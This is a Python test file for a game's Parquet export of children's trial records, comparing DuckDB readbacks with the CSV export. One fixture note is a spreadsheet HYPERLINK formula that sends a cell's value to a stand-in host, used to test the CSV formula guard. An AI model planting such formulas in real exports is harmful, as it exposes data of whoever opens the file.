"""The Parquet export read back with DuckDB: the CSV's rows and columns, with real types."""

from __future__ import annotations

import csv
import re
import stat
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from game.play.trial_record import Override
from game.records.storage import StoreError
from game.records.store import ProgressStore, memory_store, open_store
from game.reports.export import DECIMALS, FORMULA_STARTS, export_columns
from game.reports.export_file import write_export
from game.reports.parquet_export import column_kind, rows_to_table
from tests.duckdb_query import query
from tests.records.factories import StepClock, fill_progress, make_trial
from tests.reports.test_export import DICTIONARY

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'
DUCKDB_TYPES = {
    "int": "BIGINT",
    "decimal": "DOUBLE",
    "bool": "BOOLEAN",
    "list": "VARCHAR[]",
    "time": "TIMESTAMP WITH TIME ZONE",
    "text": "VARCHAR",
}


def documented_types() -> dict[str, str]:
    """Column -> the "Parquet (DuckDB) type" cell of the dictionary's `## Columns` table."""
    section = DICTIONARY.read_text(encoding="utf-8").split("## Columns", 1)[1].split("\n## ")[0]
    return dict(re.findall(r"^\| `([a-z0-9_]+)` \| [^|]+ \| ([^|]+?) \|", section, re.MULTILINE))


def read_parquet(path: Path) -> tuple[list[str], list[dict[str, Any]]]:
    relation = query(f"select * from read_parquet('{path}')")
    names = list(relation.columns)
    return names, [dict(zip(names, values, strict=True)) for values in relation.fetchall()]


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        return list(reader.fieldnames or ()), rows


def parse_csv_cell(column: str, text: str) -> Any:
    """A CSV cell as the value it stands for (the data dictionary's "File formats")."""
    kind = column_kind(column)
    if kind == "list":
        return text.split(";") if text else []
    if text == "":
        return None if kind != "text" else ""
    if kind == "int":
        return int(text)
    if kind == "decimal":
        return float(text)
    if kind == "bool":
        assert text in ("true", "false"), (column, text)
        return text == "true"
    if kind == "time":
        return datetime.fromisoformat(text)
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]  # the CSV's formula guard, which Parquet does not need
    return text


@pytest.fixture
def varied_store(tmp_path: Path) -> ProgressStore:
    """Two children; notes with a formula, a name and Chinese; a trial that never crossed
    the threshold; floats with many decimals; a session with no trials."""
    data_dir = tmp_path / "data"
    clock = StepClock()
    with open_store(data_dir, clock=clock) as store:
        child = store.create_profile("Mia Rossi", birth_year=2017)
        fill_progress(store, child.profile_id, sessions=3, trials_per_session=8, clock=clock)
        first = store.sessions_for(child.profile_id)[0]
        store.set_trial_note(first.session_id, 1, FORMULA)
        store.set_trial_note(first.session_id, 2, "Mia 今天很开心")
        session = store.start_session(child.profile_id, level_set_id="six-feelings")
        store.add_trial(session.session_id, make_trial(0, success=False, prompt_level=3,
                                                       peak_score=0.712345678901234))
        store.add_trial(session.session_id, make_trial(1, override=Override.REJECT,
                                                       override_note="-2 points"))
        empty = store.start_session(child.profile_id, level_set_id="first-faces")
        store.end_session(empty.session_id, reason="source_ended")
        sibling = store.create_profile("Ben")
        fill_progress(store, sibling.profile_id, sessions=1, trials_per_session=3, clock=clock)
    return open_store(data_dir, read_only=True)


def test_parquet_read_with_duckdb_matches_the_csv_row_for_row_and_column_for_column(
    varied_store: ProgressStore, tmp_path: Path
) -> None:
    csv_out, parquet_out = tmp_path / "trials.csv", tmp_path / "trials.parquet"
    count = write_export(varied_store, csv_out, fmt="csv")
    assert write_export(varied_store, parquet_out, fmt="parquet") == count == 24 + 2 + 3
    csv_columns, csv_rows = read_csv(csv_out)
    pq_columns, pq_rows = read_parquet(parquet_out)
    assert pq_columns == csv_columns == list(export_columns())
    assert len(pq_rows) == len(csv_rows) == count
    for number, (text_row, typed_row) in enumerate(zip(csv_rows, pq_rows, strict=True)):
        for column in csv_columns:
            expected = parse_csv_cell(column, text_row[column])
            got = typed_row[column]
            if column_kind(column) == "text" and got is None:
                got = ""  # CSV writes a missing text and an empty one alike
            assert got == expected, f"row {number}, {column}: {got!r} != {expected!r}"
            if isinstance(got, float):
                assert round(got, DECIMALS) == got, (column, got)
    notes = [row["therapist_note"] for row in pq_rows if row["therapist_note"]]
    assert FORMULA in notes  # as written: the formula guard is the CSV's alone
    assert any(note.endswith("今天很开心") and "Mia" not in note for note in notes)
    assert "-2 points" in [row["override_note"] for row in pq_rows]
    peaks = {row["peak_score"] for row in pq_rows}
    assert 0.712 in peaks and not any(len(repr(p)) > 6 for p in peaks)
    assert stat.S_IMODE(parquet_out.stat().st_mode) == 0o600


def test_column_types_are_what_the_data_dictionary_says(
    varied_store: ProgressStore, tmp_path: Path
) -> None:
    out = tmp_path / "trials.parquet"
    write_export(varied_store, out, fmt="parquet")
    described = query(f"describe select * from read_parquet('{out}')").fetchall()
    types = {name: kind for name, kind, *_ in described}
    documented = documented_types()
    assert set(documented) == set(export_columns())
    assert types == documented, "the dictionary's Parquet types are the file's"
    assert {types[c] for c in export_columns()} <= set(DUCKDB_TYPES.values())
    assert types["trial_number"] == "BIGINT" and types["success"] == "BOOLEAN"
    assert types["peak_score"] == "DOUBLE" and types["hints_given"] == "VARCHAR[]"
    assert types["recorded_at"] == "TIMESTAMP WITH TIME ZONE"


def test_times_carry_the_local_utc_offset(varied_store: ProgressStore, tmp_path: Path) -> None:
    out, csv_out = tmp_path / "trials.parquet", tmp_path / "trials.csv"
    write_export(varied_store, out, fmt="parquet")
    write_export(varied_store, csv_out, fmt="csv")
    schema = pq.read_schema(out)
    assert str(schema.field("session_started_at").type) == "timestamp[us, tz=+01:00]"
    assert b"facequest-trials" in schema.metadata[b"facequest"]
    rows = query(
        "select trial_index, trial_number, session_utc_offset_min, "
        "timezone('UTC', session_started_at) + to_minutes(session_utc_offset_min) as local "
        f"from read_parquet('{out}')"
    ).fetchall()
    assert all(number == index + 1 for index, number, _, _ in rows)
    assert {offset for _, _, offset, _ in rows} == {60}
    # the dictionary's recipe gives back the wall clock the session was recorded with
    _, csv_rows = read_csv(csv_out)
    recorded = [datetime.fromisoformat(r["session_started_at"]).replace(tzinfo=None)
                for r in csv_rows]
    assert [local for *_, local in rows] == recorded
    assert recorded[0].hour == 9  # the StepClock's +01:00 morning, not UTC


def test_times_with_different_offsets_are_exact_instants_in_utc(tmp_path: Path) -> None:
    """A daylight-saving change between sessions: one column, two offsets."""
    winter = StepClock(datetime(2025, 3, 28, 9, 0, tzinfo=timezone(timedelta(hours=1))))
    store = memory_store(clock=winter)
    child = store.create_profile("Ava")
    winter.now = datetime(2025, 3, 28, 9, 0, tzinfo=timezone(timedelta(hours=1)))
    first = store.start_session(child.profile_id, level_set_id="first-faces")
    store.add_trial(first.session_id, make_trial(0))
    winter.now = datetime(2025, 3, 31, 9, 0, tzinfo=timezone(timedelta(hours=2)))
    second = store.start_session(child.profile_id, level_set_id="first-faces")
    store.add_trial(second.session_id, make_trial(0))
    out = tmp_path / "trials.parquet"
    write_export(store, out, fmt="parquet")
    assert str(pq.read_schema(out).field("session_started_at").type) == "timestamp[us, tz=UTC]"
    _, rows = read_parquet(out)
    assert [r["session_started_at"] for r in rows] == [
        datetime(2025, 3, 28, 8, 0, tzinfo=UTC),
        datetime(2025, 3, 31, 7, 0, tzinfo=UTC),
    ]
    assert [r["session_utc_offset_min"] for r in rows] == [60, 120]


def test_no_trials_gives_an_empty_file_with_the_typed_columns(tmp_path: Path) -> None:
    store = memory_store()
    child = store.create_profile("Ava")
    session = store.start_session(child.profile_id, level_set_id="first-faces")
    store.end_session(session.session_id, reason="source_ended")
    out = tmp_path / "trials.parquet"
    assert write_export(store, out, fmt="parquet") == 0
    columns, rows = read_parquet(out)
    assert columns == list(export_columns()) and rows == []
    described = query(f"describe select * from read_parquet('{out}')").fetchall()
    assert {name: kind for name, kind, *_ in described} == documented_types()


def test_a_damaged_stored_time_is_one_sentence() -> None:
    row: dict[str, object] = {column: None for column in export_columns()}
    row["recorded_at"] = "yesterday"
    with pytest.raises(StoreError, match="recorded_at is not a time"):
        rows_to_table([row], exported_at=datetime.now().astimezone())
